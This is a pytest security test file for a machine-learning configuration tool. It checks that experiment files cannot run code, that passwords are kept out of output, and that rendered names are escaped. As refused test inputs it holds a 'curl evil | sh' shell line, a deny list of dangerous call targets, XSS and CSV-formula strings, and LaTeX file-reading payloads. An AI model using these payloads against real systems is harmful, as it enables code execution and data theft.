"""What others wrote runs no code here, a password is written nowhere, and names are shown as names."""

import ast
import base64
import csv
import http.server
import io
import os
import re
import sys
import threading
from pathlib import Path

import pytest
from conftest import CHECKOUT
from omegaconf import OmegaConf
from test_wrong_inputs import experiment, train  # noqa: F401

from vae_lab.config.checks.launching import check_hydra, check_shell
from vae_lab.config.checks.targets import SEARCHES, check_allowed, why_refused
from vae_lab.config.compose import compose, compose_unchecked, from_yaml, to_yaml
from vae_lab.config.composer import Composer
from vae_lab.config.credentials import has_password, kept_apart, storage_address, with_password, without_password
from vae_lab.config.options import option_names, read_option
from vae_lab.config.overrides import check_overrides
from vae_lab.config.parts import make
from vae_lab.config.settings import settings_of
from vae_lab.console.terminal import show_lines
from vae_lab.errors import UsageError
from vae_lab.report.table import Row, Table, csv_table, latex_text, markdown_table
from vae_lab.run.loaded import load_run
from vae_lab.run.reevaluate import evaluate_run
from vae_lab.search.storage import make_part
from vae_lab.tracking.artifacts import CONFIG, artifact
from vae_lab.tracking.records import RunRecord
from vae_lab.tracking.store import Store, open_store
from vae_lab.tracking.tracked_run import TrackedRun

# ruff: noqa: F811
REFUSED = (
    "os.system",
    "builtins.eval",
    "joblib.load",
    "pandas.read_pickle",
    "hydra.utils.get_method",
    "hydra.utils.instantiate",
    "keras.models.load_model",
    "keras.optimizers.get",
    "keras.optimizers.deserialize",
    "keras.optimizers.schedules.x.os.system",
    "keras.optimizersx.Adam",
    "keras.src.optimizers.adam.Adam",
    "vae_lab.config.compose.compose",
    "vae_lab.run.loaded.load_run",
    "vae_lab.tracking.store.open_store",
    "vae_lab.data.np.load",
    "vae_lab.data.npz.np.load",
    "vae_lab.data.npz.np",
    "vae_lab.data.download.download",
    "vae_lab.data.dataset.importlib.import_module",
    "vae_lab.encoder.mlp.keras",
    "vae_lab.encoderx.mlp.MLP",
    "vae_lab.encoder.mlp",
    "vae_lab.prior.mixture.keras.layers.Lambda",
    "optuna.samplers.TPESampler",
    "stranger.Encoder",
    "os",
    "",
    "a b.c",
    3,
    None,
    ["os.system"],
)


@pytest.mark.parametrize("target", REFUSED, ids=str)
def test_what_is_no_part_is_not_named(target):
    assert why_refused(target)
    for settings in (
        {"_target_": target},
        {"encoder": {"activation": {"_target_": target, "_partial_": True}}},
        {"prior": {"layers": [1, {"_target_": "vae_lab.prior.mvn.MVN", "_args_": [[{"_target_": target}]]}]}},
        {"a": {"_target_": "keras.optimizers.Adam", "_recursive_": False, "b": {"_target_": target}}},
    ):
        with pytest.raises(UsageError):
            check_allowed(settings)
        with pytest.raises(UsageError):
            check_allowed(OmegaConf.create(settings))
        with pytest.raises(UsageError):
            make(settings)


def test_every_option_of_ours_is_named():
    folders = (
        "encoder",
        "decoder",
        "posterior",
        "prior",
        "likelihood",
        "estimator",
        "data",
        "binarization",
        "schedule",
    )
    for axis in (*folders, "optimizer"):
        for name in option_names(axis):
            option = read_option(axis, name)
            assert why_refused(option.get(axis, option)._target_) is None, name
    for target in ("keras.optimizers.AdamW", "keras.optimizers.schedules.CosineDecay"):
        assert why_refused(target) is None
    assert why_refused("optuna.samplers.TPESampler", SEARCHES) is None
    assert why_refused("optuna.samplers.os.system", SEARCHES)


def test_what_keras_would_import_for_a_mapping_is_refused():
    with pytest.raises(UsageError, match="names"):
        compose("encoder.activation={module:os,class_name:system,config:{}}")


def project_in(folder, monkeypatch, packages):
    (folder / "conf").mkdir()
    (folder / "pyproject.toml").write_text(f"[tool.vae_lab]\npackages = {packages}\n")
    (folder / "mine_of_security").mkdir()
    (folder / "mine_of_security" / "__init__.py").write_text("from os import system\n")
    (folder / "mine_of_security" / "prior.py").write_text("import os\nclass Prior: pass\ndef made(): pass\n")
    monkeypatch.syspath_prepend(str(folder))
    monkeypatch.setenv("VAE_LAB_PROJECT", str(folder))


def test_a_project_s_own_packages_are_named_and_nothing_else(tmp_path, monkeypatch):
    assert why_refused("mine_of_security.prior.Prior")
    project_in(tmp_path, monkeypatch, '["mine_of_security", "subprocess"]')
    assert why_refused("mine_of_security.prior.Prior") is None
    assert why_refused("mine_of_security.prior.made") is None
    for target in ("mine_of_security.system", "mine_of_security.prior.os", "mine_of_security.prior.os.system"):
        assert why_refused(target), target
    assert "outside the project" in why_refused("subprocess.Popen")
    assert "mine_of_security" not in sys.modules


@pytest.fixture
def stranger(tmp_path_factory, monkeypatch):
    """A module that leaves a file where it is imported or called; gives the file."""
    folder = tmp_path_factory.mktemp("stranger")
    left = folder / "left"
    (folder / "stranger.py").write_text(f"open({str(left)!r}, 'w').close()\ndef run(*_, **__): pass\n")
    monkeypatch.syspath_prepend(str(folder))
    yield left
    sys.modules.pop("stranger", None)


CALL = "{_target_: stranger.run}"
# What a stranger's experiment file may try. The folder of ours is made by the line before.
FILES = {
    "data": "data: {_target_: stranger.load}",
    "part": "encoder: {_target_: stranger.run}",
    "nested": f"encoder: {{activation: {CALL}}}",
    "in a list": f"encoder: {{hidden: [{CALL}]}}",
    "by interpolation": "study: null\nencoder: {activation: {_target_: '${.x}', x: stranger.run}}",
    "an arm": "study: {arms: {a: {encoder._target_: stranger.run}}, seeds: [0]}\nhydra: {mode: MULTIRUN}",
    "an arm's data": "study: {arms: {a: {data._target_: stranger.load}}, seeds: [0]}\nhydra: {mode: MULTIRUN}",
    "an arm's environment": "study: {arms: {a: {hydra.job.env_set: {A: b}}}, seeds: [0]}\nhydra: {mode: MULTIRUN}",
    "callback": f"hydra: {{callbacks: {{x: {CALL}}}}}",
    "launcher": f"hydra: {{mode: MULTIRUN, launcher: {CALL}}}",
    "within the launcher": f"hydra: {{mode: MULTIRUN, launcher: {{x: {CALL}}}}}",
    "sweeper": f"hydra: {{mode: MULTIRUN, sweeper: {CALL}}}",
    "sampler": f"defaults: [override /hydra/sweeper: optuna]\nhydra: {{mode: MULTIRUN, sweeper: {{sampler: {CALL}}}}}",
    "environment of jobs": "hydra: {job: {env_set: {PATH: /tmp}}}",
    "log of Hydra": "hydra: {hydra_logging: {version: 1, handlers: {x: {class: stranger.run}}, root: {handlers: [x]}}}",
    "log of a job": "hydra: {job_logging: {version: 1, formatters: {x: {(): stranger.run}}}}",
    "stream of a log": "hydra: {job_logging: {handlers: {console: {stream: 'ext://stranger.run'}}}}",
    "environment": "encoder: {activation: '${oc.env:A_SECRET}'}",
    "environment in the question": "study: {question: '${oc.env:A_SECRET}', arms: {a: {}}, seeds: [0]}",
    "environment in an arm": "study: {arms: {a: {tracking.uri: 'http://127.0.0.1:9/${oc.env:A_SECRET}'}}, seeds: [0]}",
    "environment in a place": "tracking: {uri: 'http://127.0.0.1:9/${oc.env:A_SECRET}'}",
    "decoded": "encoder: {activation: '${oc.decode:${a}}'}",
    "a name of a resolver that is made": "encoder: {activation: '${${short}.env:A_SECRET}'}",
}


@pytest.mark.parametrize("name", FILES)
def test_a_stranger_s_experiment_runs_no_code(name, stranger, train, experiment, tmp_path, monkeypatch):
    monkeypatch.setenv("A_SECRET", "hunter2")
    code, printed, errors = train(*experiment(FILES[name]), "sweep.plan=true")
    assert code == 2, printed + errors
    assert len(errors.splitlines()) <= 2, errors
    assert "hunter2" not in printed + errors
    assert not stranger.exists()
    assert not list(tmp_path.iterdir())


def test_the_command_line_runs_no_code(stranger, train, tmp_path):
    for words in (
        ["encoder._target_=stranger.run"],
        ["+hydra.callbacks.x._target_=stranger.run"],
        ["-m", "seed=0,1", "prior._target_=stranger.run"],
        ["--experimental-rerun", str(tmp_path / "config.pickle")],
        ["--config-name", "other"],
    ):
        code, _, errors = train(*words)
        assert (code, len(errors.splitlines())) == (2, 1), errors
    assert not stranger.exists()


def test_lines_for_a_shell_are_the_user_s_own():
    node = {"runtime": {"choices": {"hydra/launcher": "slurm"}}, "job": {"env_set": {}}}
    setup = OmegaConf.to_container(read_option("hydra/launcher", "slurm"))["setup"]
    check_shell({**node, "launcher": {"setup": setup, "python": None}}, ())
    with pytest.raises(UsageError, match="command line"):
        check_shell({**node, "launcher": {"setup": [*setup, "curl evil | sh"]}}, ())
    check_shell({**node, "launcher": {"setup": ["module load cuda"]}}, ("hydra.launcher.setup=[module load cuda]",))


def test_options_of_conf_hydra_are_let_pass():
    for group in ("launcher=basic", "launcher=workers", "sweeper=optuna", "sweeper=study", "sweeper=basic"):
        cfg = compose_unchecked(f"hydra/{group}", with_hydra=True)
        check_hydra(OmegaConf.to_container(cfg.hydra, resolve=False))


@pytest.mark.parametrize(
    ("change", "key"),
    [
        ({"data": {"_target_": "joblib.load", "filename": "x"}}, "data"),
        ({"encoder": {"activation": {"_target_": "stranger.run"}}}, "encoder.activation"),
        ({"encoder": {"activation": "${oc.env:A_SECRET}"}}, "encoder.activation"),
        ({"data": {"dir": "${oc.env:A_SECRET}"}}, "data.dir"),
        ({"data": {"dir": "${oc.env:VAE_LAB_HOME}"}}, "data.dir"),
        ({"latent_size": "${seed}"}, "latent_size"),
    ],
)
def test_a_stored_configuration_runs_and_looks_up_nothing(change, key, stranger, monkeypatch):
    monkeypatch.setenv("A_SECRET", "hunter2")
    stored = OmegaConf.create(to_yaml(compose_unchecked("seed=0")))
    text = OmegaConf.to_yaml(OmegaConf.merge(stored, change))
    with pytest.raises(UsageError) as refused:
        from_yaml(text)
    assert key.split(".")[0] in str(refused.value)
    assert "hunter2" not in str(refused.value)
    if "_target_" in str(change):
        with pytest.raises(UsageError):
            settings_of(OmegaConf.create(text))
    assert not stranger.exists()


@pytest.mark.slow
def test_a_run_that_somebody_else_made_is_evaluated_without_what_it_names(stranger, tmp_path):
    store = open_store(f"sqlite:///{tmp_path}/mlflow.db", "vae_lab", str(tmp_path / "artifacts"))
    stored = OmegaConf.create(to_yaml(compose_unchecked("seed=0")))
    text = OmegaConf.to_yaml(OmegaConf.merge(stored, {"encoder": {"activation": {"_target_": "stranger.run"}}}))
    with TrackedRun(store, "theirs", {"vae_lab.kind": "run"}) as run:
        run.text(text, CONFIG)
    with pytest.raises(UsageError, match=r"stranger.run is no class of vae_lab's parts"):
        evaluate_run(store, run.run_id, ["evaluation.seed=1"])
    with pytest.raises(UsageError, match=r"stranger.run is no class"):
        load_run(run.run_id, tracking_uri=store.uri)
    with pytest.raises(UsageError, match=r"stranger.run is no class"):
        make_part("pruner", {"_target_": "stranger.run"})  # which a search's database holds
    assert not stranger.exists()


def test_the_user_s_own_variables_say_where_things_are(tmp_path, monkeypatch):
    monkeypatch.setenv("SCRATCH", str(tmp_path))
    assert compose("data.dir=${oc.env:SCRATCH}").data.dir == str(tmp_path)
    with pytest.raises(UsageError, match=r"encoder.activation=\$\{oc.env:SCRATCH\}"):
        compose("encoder.activation=${oc.env:SCRATCH}")


def test_jobs_of_a_sweep_look_nothing_up_that_a_single_one_must_not(tmp_path, monkeypatch):
    monkeypatch.setenv("SCRATCH", str(tmp_path))
    place = "data.dir=${oc.env:SCRATCH}"
    in_a_file = Composer(lambda overrides: compose_unchecked(*overrides, place))
    with pytest.raises(UsageError, match=r"data.dir=\$\{oc.env:SCRATCH\}: a file may read VAE_LAB_"):
        in_a_file(["prior=mvn", "seed=1"])
    on_the_command_line = Composer(lambda overrides: compose_unchecked(*overrides))
    cfg = on_the_command_line(["prior=mvn", place])
    check_overrides(["prior=mvn", place], cfg)
    assert cfg.data.dir == str(tmp_path)


ADDRESSES = {
    "http://me:hunter2@host:5000": "http://host:5000",
    "https://me:hunter2@host/path": "https://host/path",
    "http://me:hunt@er2@host": "http://host",
    "'http://me:hunter2@host'": "'http://host'",
}


@pytest.fixture
def no_credentials(monkeypatch):
    for name in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "VAE_LAB_STORAGE_PASSWORD"):
        monkeypatch.setenv(name, "")  # which is undone at the end, whatever the test sets
        monkeypatch.delenv(name)


@pytest.mark.usefixtures("no_credentials")
@pytest.mark.parametrize("address", ADDRESSES)
def test_a_password_leaves_the_address(address):
    assert kept_apart(f"tracking.uri={address}") == f"tracking.uri={ADDRESSES[address]}"
    assert os.environ["MLFLOW_TRACKING_USERNAME"] == "me"
    assert os.environ["MLFLOW_TRACKING_PASSWORD"] in ("hunter2", "hunt@er2")
    assert has_password(address)
    assert "hunt" not in without_password(address)


@pytest.mark.usefixtures("no_credentials")
def test_a_password_of_a_database_comes_back_where_it_is_opened():
    whole = "postgresql://me:h%40unter2@host:5432/optuna"
    word = kept_apart(f"hydra.sweeper.storage={whole}")
    assert word == "hydra.sweeper.storage=postgresql://me@host:5432/optuna"
    assert os.environ["VAE_LAB_STORAGE_PASSWORD"] == "h@unter2"
    assert with_password(storage_address(whole)) == whole
    assert with_password("sqlite:////tmp/x.db") == "sqlite:////tmp/x.db"


@pytest.mark.usefixtures("no_credentials")
def test_a_password_of_the_environment_leaves_the_address(monkeypatch):
    monkeypatch.setenv("SERVER", "http://me:hunter2@host")
    assert kept_apart("tracking.uri=${oc.env:SERVER}") == "tracking.uri=http://host"
    with pytest.raises(UsageError) as refused:
        kept_apart("data.path=ftp://me:hunter2@host")
    assert "hunter2" not in str(refused.value)


@pytest.fixture
def server():
    """A server that answers those who know the password, and MLflow's questions with nothing: (its port, who asked)."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.headers.get("Authorization"))
            right = asked[-1] == f"Basic {base64.b64encode(b'me:hunter2').decode()}"
            self.send_response(200 if right else 401)
            self.end_headers()
            self.wfile.write(b"{}" if right else b"You are not authenticated")

        do_POST = do_GET

        def log_message(self, *_):
            pass

    served = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=served.serve_forever)
    thread.start()
    yield served.server_port, asked
    served.shutdown()
    thread.join()
    served.server_close()


@pytest.mark.usefixtures("no_credentials")
def test_a_server_with_a_password_is_reached_by_whoever_gives_it(server):
    port, asked = server
    with pytest.raises(UsageError, match="401"):
        open_store(f"http://127.0.0.1:{port}")
    store = open_store(f"http://me:hunter2@127.0.0.1:{port}")
    assert store.uri == f"http://127.0.0.1:{port}"
    assert "hunter2" not in repr(store) + store.ui_command()
    assert len(set(asked[1:])) == 1  # ours, and those that MLflow's own client made


@pytest.mark.slow
@pytest.mark.usefixtures("no_credentials")
def test_a_password_is_written_nowhere(train, tmp_path):
    closed = "127.0.0.1:9"  # where nothing listens
    search = ["-m", "hydra/sweeper=optuna", "latent_size=choice(2,3)", "hydra.sweeper.n_trials=2"]
    for words in (
        [f"tracking.uri=http://me:hunter2@{closed}", "training.epochs=1"],
        ["-m", "seed=0,1", f"tracking.uri=http://me:hunter2@{closed}"],
        [f"traking.uri=http://me:hunter2@{closed}"],
        [*search, f"hydra.sweeper.storage=postgresql://me:hunter2@{closed}/optuna"],
        ["--cfg", "all", f"tracking.uri=http://me:hunter2@{closed}"],
    ):
        code, printed, errors = train(*words)
        assert code == (0 if "--cfg" in words else 2), errors
        assert "hunter2" not in printed + errors
    kept = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert not [path for path in kept if b"hunter2" in path.read_bytes()]


@pytest.mark.usefixtures("no_credentials")
@pytest.mark.parametrize(
    "content",
    [
        "tracking: {uri: 'http://me:hunter2@127.0.0.1:9'}",
        "hydra: {mode: MULTIRUN, sweeper: {storage: 'postgresql://me:hunter2@127.0.0.1:9/x'}}\n"
        "defaults:\n  - override /hydra/sweeper: optuna",
    ],
)
def test_a_file_holds_no_password(content, train, experiment):
    code, printed, errors = train(*experiment(content))
    assert (code, "a file must hold no password" in errors) == (2, True), errors
    assert "hunter2" not in printed + errors


def record_in(folder, run_id="0" * 32):
    return RunRecord(run_id, "r", "FINISHED", {}, {}, {}, "1", 0, 1, folder)


def test_files_of_a_run_stay_in_its_folder(tmp_path):
    folder, store = tmp_path / "artifacts", Store(None, "1", "http://127.0.0.1:9")
    folder.mkdir()
    (tmp_path / "secret").write_text("hunter2")
    (folder / "config.yaml").write_text("a: 1")
    (folder / "link").symlink_to(tmp_path / "secret")
    record = record_in(folder.as_uri())
    assert artifact(store, record, "config.yaml", tmp_path) == folder / "config.yaml"
    for name in ("../secret", "link", str(tmp_path / "secret"), "a/../../secret"):
        with pytest.raises(UsageError, match="leads out of"):
            artifact(store, record, name, tmp_path)
    with pytest.raises(UsageError, match="leads out of"):
        artifact(store, record_in("mlflow-artifacts:/1", "../../x"), "config.yaml", tmp_path / "fetched")


NASTY = ["<script>alert(1)</script>", "<img src=x onerror=y>", "a|b", "[x](javascript:y)", "--></svg><b>", "$x_1$ \\&"]


def test_tables_show_names_as_names():
    text = markdown_table(["arm"], [[name] for name in NASTY])
    assert not re.search(r"<[a-z/!]", text)
    assert "](" not in text
    assert all(line.replace(r"\|", "").count("|") == 2 for line in text.splitlines())
    cells = ["=1+1", "+cmd", "-cmd", "@sum", "\tx", "-23.45", "1e-3", "-inf", "+0.5", -23.45, "mvn"]
    read = [row[0] for row in csv.reader(io.StringIO(csv_table(["=x"], [[cell] for cell in cells])))]
    assert read == [
        "'=x",
        "'=1+1",
        "'+cmd",
        "'-cmd",
        "'@sum",
        "'\tx",
        "-23.45",
        "1e-3",
        "-inf",
        "+0.5",
        "-23.45",
        "mvn",
    ]


def test_latex_sets_names_as_text():
    for name in (*NASTY, r"\input{/etc/passwd}", "100%"):
        left = re.sub(r"\\text\w+\{\}|\\[&%$#_{}]", "", latex_text(name))
        assert not set(left) & set("\\&%$#_{}^~"), left
    table = Table(("test/elbo",), (Row(r"\write18{x}", 1, 1, {}),)).latex()
    assert r"\write" not in table
    assert "write18" in table


def test_a_terminal_shows_names_as_text(capsys):
    show_lines("title [/x]", ["arm"], [["[/bold]"], ["[link=http://x]y[/link]"], ["\x1b[2Jz"], ["\x9b2Jz"]])
    printed = capsys.readouterr().out
    assert "[/bold]" in printed
    assert "[link=http://x]y[/link]" in printed
    assert not set("\x1b\x9b") & set(printed)


def test_workers_know_the_password_by_their_environment(monkeypatch):
    joblib = pytest.importorskip("joblib")
    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "hunter2")
    with joblib.parallel_config("loky", n_jobs=2):
        found = joblib.Parallel()(joblib.delayed(os.getenv)("MLFLOW_TRACKING_PASSWORD") for _ in range(2))
    joblib.externals.loky.get_reusable_executor().shutdown(wait=True)
    assert found == ["hunter2", "hunter2"]


def test_drawings_hold_names_as_text():
    import matplotlib

    matplotlib.use("svg")
    from matplotlib import pyplot

    for kind in ("none", "path"):
        with pyplot.rc_context({"svg.fonttype": kind}):
            drawing, axes = pyplot.subplots()
            axes.set_title("--></svg><script>x</script>", parse_math=False)
            text = io.StringIO()
            drawing.savefig(text, format="svg")
            pyplot.close(drawing)
        assert "<script" not in text.getvalue()


# What unpickles, unpacks or runs text, by the last of its name; and the one place that may, of its own object.
RUNS = {
    "load_model",
    "eval",
    "exec",
    "extractall",
    "unpack_archive",
    "unsafe_load",
    "full_load",
    "enable_unsafe_deserialization",
}
OWN = {("vae_lab/run/job.py", "pickle.loads")}


def calls():
    for path in (*(CHECKOUT / "vae_lab").rglob("*.py"), *(CHECKOUT / "scripts").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                keywords = {one.arg: ast.unparse(one.value) for one in node.keywords}
                yield str(path.relative_to(CHECKOUT)), ast.unparse(node.func), keywords


def test_nothing_is_unpickled_unpacked_or_run_as_text():
    found = set()
    for file, name, keywords in calls():
        leaf = name.rpartition(".")[2]
        if name.startswith(("pickle.load", "dill.", "joblib.load", "marshal.", "shelve.")) or leaf in RUNS:
            found.add((file, name))
        assert keywords.get("shell") != "True", (file, name)
        assert keywords.get("allow_pickle", "False") == "False", (file, name)
        assert keywords.get("safe_mode", "True") == "True", (file, name)
        if name == "np.load":
            assert keywords.get("allow_pickle") == "False", file
        if leaf == "get_file":
            assert not {"extract", "untar"} & set(keywords), file
    assert found <= OWN


def test_all_that_is_documented_listens_on_this_machine():
    documented = [CHECKOUT / "README.md", *(CHECKOUT / "docs").rglob("*.md"), *(CHECKOUT / "scripts").iterdir()]
    for path in documented:
        if path.is_file():
            assert "0.0.0.0" not in path.read_text(), path
    for path in (CHECKOUT / "vae_lab").rglob("*.py"):
        assert "0.0.0.0" not in Path(path).read_text(), path
